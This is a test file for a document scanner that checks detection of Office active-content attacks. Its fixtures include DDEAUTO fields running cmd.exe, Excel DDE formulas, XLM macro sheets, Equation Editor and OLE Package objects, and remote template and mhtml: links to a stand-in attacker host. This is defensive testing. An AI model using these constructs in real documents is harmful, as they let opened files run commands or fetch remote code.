import { zipSync } from "fflate";
import { describe, expect, it } from "vitest";
import { createBuiltinEngine, type ScanLimits } from "../../../core/domain/scan/index.ts";
import type { EngineResult } from "../../../core/domain/types.ts";
import { tar, zip } from "../../fixtures/archives.ts";
import { docx } from "../../fixtures/documents.ts";

const LIMITS: ScanLimits = { maxDepth: 4, maxEntries: 50, maxExpandedBytes: 64 * 1024 * 1024, maxRatio: 100 };

async function* chunks(data: Uint8Array, size: number): AsyncGenerator<Uint8Array> {
  for (let i = 0; i < data.length; i += size) yield data.subarray(i, i + size);
}
const scan = (data: Uint8Array, chunk = 64 * 1024): Promise<EngineResult> =>
  createBuiltinEngine(LIMITS).scan(chunks(data, chunk), { key: "k", size: data.length });
const names = (r: EngineResult) =>
  r.status === "infected" ? r.findings.map((f) => `${f.name}@${f.path}`).sort() : [];

const encode = (text: string) => new TextEncoder().encode(text);
const W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"';
const CONTENT_TYPES = (main: string) =>
  `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/><Override PartName="/main" ContentType="${main}"/></Types>`;
const DOCX_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml";
const XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml";
const rels = (...relationships: string[]) =>
  `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${relationships.join("")}</Relationships>`;
const R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";

function pkg(main: string, parts: Record<string, string | Uint8Array>): Uint8Array {
  return zipSync({
    "[Content_Types].xml": encode(CONTENT_TYPES(main)),
    ...Object.fromEntries(Object.entries(parts).map(([k, v]) => [k, typeof v === "string" ? encode(v) : v])),
  });
}
const wordBody = (body: string) =>
  `<?xml version="1.0"?><w:document ${W}><w:body>${body}</w:body></w:document>`;

/** A compound file holding the given UTF-16LE directory names and raw bytes, like the test fixtures elsewhere. */
function ole2(names: string[], raw = Buffer.alloc(0)): Uint8Array {
  const b = Buffer.alloc(2048 + raw.length);
  Buffer.from("d0cf11e0a1b11ae1", "hex").copy(b);
  names.forEach((name, i) => {
    b.write(`${name}\0`, 512 + i * 128, "utf16le");
  });
  raw.copy(b, 2048);
  return new Uint8Array(b);
}
const BOUNDSHEET_MACRO = Buffer.from("85000e00000400000001064d6163726f31", "hex");

describe("Function: createBuiltinEngine (Office active content beyond VBA)", () => {
  it.each<[string, Uint8Array, string]>([
    [
      "a Word DDEAUTO field split across runs",
      pkg(DOCX_TYPE, {
        "word/document.xml": wordBody(
          '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>',
        ),
      }),
      "Airlock.Office.Dde@word/document.xml",
    ],
    [
      "a Word fldSimple DDE field",
      pkg(DOCX_TYPE, {
        "word/header1.xml": wordBody('<w:fldSimple w:instr=" DDE &quot;cmd&quot; &quot;/c calc&quot;"/>'),
      }),
      "Airlock.Office.Dde@word/header1.xml",
    ],
    [
      "an INCLUDETEXT of a UNC path",
      pkg(DOCX_TYPE, {
        "word/document.xml": wordBody(
          '<w:fldSimple w:instr="INCLUDETEXT &quot;\\\\\\\\attacker\\\\share\\\\x.docx&quot;"/>',
        ),
      }),
      "Airlock.Office.ExternalField@word/document.xml",
    ],
    [
      "an Excel DDE link",
      pkg(XLSX_TYPE, {
        "xl/externalLinks/externalLink1.xml":
          '<?xml version="1.0"?><externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><ddeLink ddeService="cmd" ddeTopic="/c calc.exe"/></externalLink>',
      }),
      "Airlock.Office.Dde@xl/externalLinks/externalLink1.xml",
    ],
    [
      "an Excel DDE formula",
      pkg(XLSX_TYPE, {
        "xl/worksheets/sheet1.xml":
          '<?xml version="1.0"?><worksheet><sheetData><row r="1"><c r="A1"><f>cmd|\'/c calc.exe\'!A1</f></c></row></sheetData></worksheet>',
      }),
      "Airlock.Office.Dde@xl/worksheets/sheet1.xml",
    ],
    [
      "an Excel 2003 XML DDE formula",
      encode(
        '<?xml version="1.0"?><?mso-application progid="Excel.Sheet"?><Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet" xmlns:ss="urn:schemas-microsoft-com:office:spreadsheet"><Worksheet><Table><Row><Cell ss:Formula="=cmd|\'/c calc.exe\'!A1"><Data ss:Type="Error">#REF!</Data></Cell></Row></Table></Worksheet></Workbook>',
      ),
      "Airlock.Office.Dde@",
    ],
    [
      "an Excel 4.0 macro sheet",
      pkg(XLSX_TYPE, { "xl/macrosheets/sheet1.xml": '<?xml version="1.0"?><xm:macrosheet xmlns:xm="x"/>' }),
      "Airlock.Office.Xlm@xl/macrosheets/sheet1.xml",
    ],
    [
      "an ActiveX control",
      pkg(DOCX_TYPE, {
        "word/activeX/activeX1.xml":
          '<?xml version="1.0"?><ax:ocx xmlns:ax="x" ax:classid="{8BD21D40-EC42-11CE-9E0D-00AA006002F3}"/>',
      }),
      "Airlock.Office.ActiveX@word/activeX/activeX1.xml",
    ],
    [
      "an OLE Package object",
      pkg(DOCX_TYPE, {
        "word/embeddings/oleObject1.bin": ole2(["Root Entry", "\u0001Ole10Native", "\u0001CompObj"]),
      }),
      "Airlock.Office.OlePackage@word/embeddings/oleObject1.bin",
    ],
    [
      "a PowerPoint action that runs a program",
      pkg("application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml", {
        "ppt/slides/slide1.xml":
          '<?xml version="1.0"?><p:sld xmlns:p="p" xmlns:a="a"><a:hlinkClick r:id="" action="ppaction://program"/></p:sld>',
      }),
      "Airlock.Office.ProgramAction@ppt/slides/slide1.xml",
    ],
    [
      "a remote attached template",
      pkg(DOCX_TYPE, {
        "word/_rels/settings.xml.rels": rels(
          `<Relationship Id="rId1" Type="${R}/attachedTemplate" Target="http://attacker.invalid/t.dotm" TargetMode="External"/>`,
        ),
      }),
      "Airlock.Office.ExternalRelationship@word/_rels/settings.xml.rels",
    ],
    [
      "an oleObject relationship to an mhtml: target",
      pkg(DOCX_TYPE, {
        "word/_rels/document.xml.rels": rels(
          `<Relationship Id="rId9" Target="mhtml:http://attacker.invalid/x.html!x-usc:http://attacker.invalid/x.html" Type="${R}/oleObject" TargetMode="External"/>`,
        ),
      }),
      "Airlock.Office.ExternalRelationship@word/_rels/document.xml.rels",
    ],
    [
      "an OLE object linked for update on open",
      pkg(DOCX_TYPE, {
        "word/document.xml": wordBody(
          '<w:object><o:OLEObject xmlns:o="o" Type="Link" ProgID="Word.Document.12" r:id="rId9" UpdateMode="Always"/></w:object>',
        ),
      }),
      "Airlock.Office.OleLink@word/document.xml",
    ],
    [
      "customUI callbacks",
      pkg(DOCX_TYPE, {
        "customUI/customUI14.xml":
          '<customUI xmlns="http://schemas.microsoft.com/office/2009/07/customui" onLoad="Auto_Open"><ribbon/></customUI>',
      }),
      "Airlock.Office.CustomUiCallback@customUI/customUI14.xml",
    ],
    [
      "a Word 97 DDEAUTO field",
      ole2(
        ["Root Entry", "WordDocument"],
        Buffer.from(
          'Dear sir \x13 DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" \x14x\x15',
          "latin1",
        ),
      ),
      "Airlock.Office.Dde@",
    ],
    ["an Excel 97 macro sheet", ole2(["Root Entry", "Workbook"], BOUNDSHEET_MACRO), "Airlock.Office.Xlm@"],
    ["an Equation Editor object", ole2(["Root Entry", "Equation Native"]), "Airlock.Office.EquationEditor@"],
    [
      "an RTF DDEAUTO field",
      encode(
        '{\\rtf1{\\field{\\*\\fldinst {\\rtlch\\fcs1 \\af0 }{\\rtlch DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"}}{\\fldrslt x}}}',
      ),
      "Airlock.Office.Dde@",
    ],
  ])("holds %s", async (_what, data, finding) => {
    for (const size of [7, 64 * 1024]) expect(names(await scan(data, size))).toContain(finding);
  });

  it("holds them inside zip and tar too", async () => {
    const data = pkg(XLSX_TYPE, { "xl/macrosheets/sheet1.xml": "<x/>" });
    expect(names(await scan(zip([{ name: "in/book.xlsx", data }])))).toContain(
      "Airlock.Office.Xlm@in/book.xlsx/xl/macrosheets/sheet1.xml",
    );
    expect(names(await scan(tar([{ name: "book.xlsx", data }])))).toContain(
      "Airlock.Office.Xlm@book.xlsx/xl/macrosheets/sheet1.xml",
    );
  });

  it("holds an encrypted Office package as an error (it cannot be seen into)", async () => {
    expect(await scan(ole2(["Root Entry", "EncryptionInfo", "EncryptedPackage"]))).toMatchObject({
      status: "error",
      reason: "encrypted",
    });
  });

  it.each<[string, Uint8Array]>([
    ["a DOCX", docx()],
    [
      "a DOCX with hyperlinks and ordinary fields",
      pkg(DOCX_TYPE, {
        "word/document.xml": wordBody(
          '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> PAGE </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r><w:fldSimple w:instr=" HYPERLINK &quot;https://example.com/&quot; "/><w:r><w:t>The DDE protocol (Dynamic Data Exchange) is described elsewhere.</w:t></w:r></w:p>',
        ),
        "word/_rels/document.xml.rels": rels(
          `<Relationship Id="rId1" Type="${R}/hyperlink" Target="https://example.com/" TargetMode="External"/>`,
          `<Relationship Id="rId2" Type="${R}/image" Target="media/image1.png"/>`,
        ),
      }),
    ],
    [
      "an XLSX with formulas",
      pkg(XLSX_TYPE, {
        "xl/worksheets/sheet1.xml":
          '<?xml version="1.0"?><worksheet><sheetData><row r="1"><c r="A1"><f>SUM(B1:B9)</f></c><c r="A2" t="s"><v>0</v></c></row></sheetData></worksheet>',
        "xl/sharedStrings.xml": '<?xml version="1.0"?><sst><si><t>a | b ! c</t></si></sst>',
      }),
    ],
    [
      "RTF that mentions DDE after an ordinary field",
      encode("{\\rtf1{\\field{\\*\\fldinst PAGE}}{\\fldrslt 1}} The DDE protocol is old.}"),
    ],
    [
      "a legacy document without active content",
      ole2(["Root Entry", "WordDocument", "\u0001CompObj"], Buffer.from("Hello \x13 PAGE \x14 1\x15")),
    ],
  ])("passes %s", async (_what, data) => {
    expect((await scan(data, 7)).status).toBe("clean");
  });
});
